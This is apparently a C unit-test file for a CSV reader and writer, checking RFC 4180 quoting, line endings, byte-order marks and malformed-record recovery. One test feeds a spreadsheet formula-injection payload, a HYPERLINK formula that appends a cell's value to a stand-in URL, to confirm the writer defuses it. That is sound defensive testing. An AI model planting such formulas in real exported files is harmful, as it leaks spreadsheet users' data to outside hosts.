/* The CSV reader and writer against RFC 4180 and what spreadsheets actually save. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "frontdesk/csv.h"
#include "testlib.h"

static FILE *in;
static fd_csv *r;

/* size 0: the text up to its NUL. */
static void open_bytes(const char *text, size_t size)
{
    in = fmemopen((void *)text, size ? size : strlen(text), "r");
    ck_assert_ptr_nonnull(in);
    r = fd_csv_new(in);
}

static void open_text(const char *text)
{
    open_bytes(text, 0);
}

static void teardown(void)
{
    fd_csv_free(r);
    r = NULL;
    if (in)
        fclose(in);
    in = NULL;
}

/* The next record is a record on line with these fields ("|"-separated). */
static void expect_record(long line, const char *joined)
{
    ck_assert_int_eq(fd_csv_read(r), FD_CSV_RECORD);
    ck_assert_int_eq(fd_csv_line(r), line);
    char got[512] = "";
    for (size_t i = 0; i < fd_csv_count(r); i++) {
        if (i > 0)
            strcat(got, "|");
        strcat(got, fd_csv_field(r, i));
    }
    ck_assert_str_eq(got, joined);
}

static void expect_bad(long line)
{
    ck_assert_int_eq(fd_csv_read(r), FD_CSV_BAD);
    ck_assert_int_eq(fd_csv_line(r), line);
    ck_assert_ptr_nonnull(fd_csv_problem(r));
    ck_assert_int_gt(strlen(fd_csv_problem(r)), 0);
}

static void expect_end(void)
{
    ck_assert_int_eq(fd_csv_read(r), FD_CSV_END);
    ck_assert_int_eq(fd_csv_read(r), FD_CSV_END);
}

START_TEST(test_plain_records)
{
    open_text("building,floor,room\nA,12,1203\nB,3,301\n");
    expect_record(1, "building|floor|room");
    expect_record(2, "A|12|1203");
    expect_record(3, "B|3|301");
    expect_end();
}
END_TEST

START_TEST(test_no_final_line_break)
{
    open_text("a,b\n1,2");
    expect_record(1, "a|b");
    expect_record(2, "1|2");
    expect_end();
}
END_TEST

START_TEST(test_empty_input)
{
    open_text("");
    expect_end();
}
END_TEST

START_TEST(test_empty_fields_count)
{
    open_text(",,\na,\n,b\n");
    ck_assert_int_eq(fd_csv_read(r), FD_CSV_RECORD);
    ck_assert_uint_eq(fd_csv_count(r), 3);
    ck_assert_str_eq(fd_csv_field(r, 2), "");
    expect_record(2, "a|");
    ck_assert_uint_eq(fd_csv_count(r), 2);
    expect_record(3, "|b");
    expect_end();
}
END_TEST

START_TEST(test_quoted_comma_and_doubled_quote)
{
    open_text("\"Smith, John\",\"say \"\"hi\"\"\",\"\"\n");
    expect_record(1, "Smith, John|say \"hi\"|");
    ck_assert_uint_eq(fd_csv_count(r), 3);
    expect_end();
}
END_TEST

START_TEST(test_embedded_line_breaks_keep_line_numbers)
{
    open_text("name,note\n\"张伟\",\"第一行\n第二行\n第三行\"\n王芳,ok\n");
    expect_record(1, "name|note");
    expect_record(2, "张伟|第一行\n第二行\n第三行");
    expect_record(5, "王芳|ok");
    expect_end();
}
END_TEST

START_TEST(test_crlf)
{
    open_text("a,b\r\n\"x\r\ny\",2\r\n3,4\r\n");
    expect_record(1, "a|b");
    expect_record(2, "x\r\ny|2"); /* inside quotes the bytes are the field's own */
    expect_record(4, "3|4");
    expect_end();
}
END_TEST

START_TEST(test_lone_cr_ends_a_line)
{
    open_text("a,b\r1,2\r");
    expect_record(1, "a|b");
    expect_record(2, "1|2");
    expect_end();
}
END_TEST

START_TEST(test_bom_skipped)
{
    open_text("\xEF\xBB\xBF" "building,floor\r\nA,1\r\n");
    expect_record(1, "building|floor");
    ck_assert_str_eq(fd_csv_field(r, 0), "building");
    expect_record(2, "A|1");
    expect_end();
}
END_TEST

START_TEST(test_bom_before_quote)
{
    open_text("\xEF\xBB\xBF\"a,b\",c\n");
    expect_record(1, "a,b|c");
    expect_end();
}
END_TEST

START_TEST(test_only_bom)
{
    open_text("\xEF\xBB\xBF");
    expect_end();
}
END_TEST

/* Bytes that start like a mark but are not one belong to the field. */
START_TEST(test_partial_bom_kept)
{
    open_text("\xEF\xBBx,1\n");
    expect_record(1, "\xEF\xBBx|1");
    expect_end();
}
END_TEST

START_TEST(test_bom_only_at_start)
{
    open_text("a\n\xEF\xBB\xBF" "b\n");
    expect_record(1, "a");
    expect_record(2, "\xEF\xBB\xBF" "b");
    expect_end();
}
END_TEST

START_TEST(test_blank_lines_skipped_but_counted)
{
    open_text("\n\na,b\n\r\n\n1,2\n\n");
    expect_record(3, "a|b");
    expect_record(6, "1|2");
    expect_end();
}
END_TEST

/* A quoted empty field is a record, not a blank line. */
START_TEST(test_quoted_empty_line_is_a_record)
{
    open_text("\"\"\n");
    expect_record(1, "");
    ck_assert_uint_eq(fd_csv_count(r), 1);
    expect_end();
}
END_TEST

START_TEST(test_spaces_are_data)
{
    open_text(" a , b \n");
    expect_record(1, " a | b ");
    expect_end();
}
END_TEST

START_TEST(test_unclosed_quote)
{
    open_text("a,b\n1,\"never closed\n2,3\n");
    expect_record(1, "a|b");
    expect_bad(2);
    expect_end();
}
END_TEST

START_TEST(test_text_after_closing_quote_recovers)
{
    open_text("a,b\n\"x\"y,1\n2,3\n");
    expect_record(1, "a|b");
    expect_bad(2);
    expect_record(3, "2|3");
    expect_end();
}
END_TEST

START_TEST(test_bare_quote_in_unquoted_field)
{
    open_text("12\"3,4\n5,6\n");
    expect_bad(1);
    expect_record(2, "5|6");
    expect_end();
}
END_TEST

START_TEST(test_nul_byte)
{
    static const char text[] = "a,b\n1,x\0y\n2,3\n";
    open_bytes(text, sizeof text - 1);
    expect_record(1, "a|b");
    expect_bad(2);
    expect_record(3, "2|3");
    expect_end();
}
END_TEST

START_TEST(test_long_field)
{
    char *text = malloc(100010);
    memset(text, 'x', 100000);
    strcpy(text + 100000, ",y\n");
    open_text(text);
    ck_assert_int_eq(fd_csv_read(r), FD_CSV_RECORD);
    ck_assert_uint_eq(strlen(fd_csv_field(r, 0)), 100000);
    ck_assert_str_eq(fd_csv_field(r, 1), "y");
    expect_end();
    teardown();
    free(text);
}
END_TEST

START_TEST(test_write_quotes_what_needs_it)
{
    char *text = NULL;
    size_t size = 0;
    FILE *out = open_memstream(&text, &size);
    const char *fields[] = {"plain", "a,b", "say \"hi\"", "two\nlines", " padded", NULL, "北辰"};
    fd_csv_write(out, fields, 7);
    fclose(out);
    ck_assert_str_eq(text, "plain,\"a,b\",\"say \"\"hi\"\"\",\"two\nlines\",\" padded\",,北辰\r\n");

    open_text(text);
    expect_record(1, "plain|a,b|say \"hi\"|two\nlines| padded||北辰");
    expect_end();
    teardown();
    free(text);
}
END_TEST

/* What a spreadsheet would run as a formula is written as text, and reads back with
 * the ' that made it so; the rest is written as it is. */
START_TEST(test_spreadsheet_formulas_are_defused)
{
    char *text = NULL;
    size_t size = 0;
    FILE *out = open_memstream(&text, &size);
    const char *fields[] = {"=HYPERLINK(\"http://x/\"&A2,\"看\")", "+86 138", "-1+1", "@SUM(A1)",
                            "\tx", "a=b", "", NULL, "李娜"};
    fd_csv_write_for_spreadsheet(out, fields, 9);
    fclose(out);
    ck_assert_str_eq(text, "\"'=HYPERLINK(\"\"http://x/\"\"&A2,\"\"看\"\")\",'+86 138,'-1+1,'@SUM(A1),"
                           "'\tx,a=b,,,李娜\r\n");
    free(text);
}
END_TEST

static Suite *csv_suite(void)
{
    Suite *s = suite_create("csv");
    TCase *read = tcase_create("read");
    tcase_add_checked_fixture(read, NULL, teardown);
    tcase_add_test(read, test_plain_records);
    tcase_add_test(read, test_no_final_line_break);
    tcase_add_test(read, test_empty_input);
    tcase_add_test(read, test_empty_fields_count);
    tcase_add_test(read, test_quoted_comma_and_doubled_quote);
    tcase_add_test(read, test_embedded_line_breaks_keep_line_numbers);
    tcase_add_test(read, test_crlf);
    tcase_add_test(read, test_lone_cr_ends_a_line);
    tcase_add_test(read, test_bom_skipped);
    tcase_add_test(read, test_bom_before_quote);
    tcase_add_test(read, test_only_bom);
    tcase_add_test(read, test_partial_bom_kept);
    tcase_add_test(read, test_bom_only_at_start);
    tcase_add_test(read, test_blank_lines_skipped_but_counted);
    tcase_add_test(read, test_quoted_empty_line_is_a_record);
    tcase_add_test(read, test_spaces_are_data);
    tcase_add_test(read, test_unclosed_quote);
    tcase_add_test(read, test_text_after_closing_quote_recovers);
    tcase_add_test(read, test_bare_quote_in_unquoted_field);
    tcase_add_test(read, test_nul_byte);
    tcase_add_test(read, test_long_field);
    suite_add_tcase(s, read);

    TCase *write = tcase_create("write");
    tcase_add_checked_fixture(write, NULL, teardown);
    tcase_add_test(write, test_write_quotes_what_needs_it);
    tcase_add_test(write, test_spreadsheet_formulas_are_defused);
    suite_add_tcase(s, write);
    return s;
}

int main(void)
{
    return testlib_run(csv_suite());
}
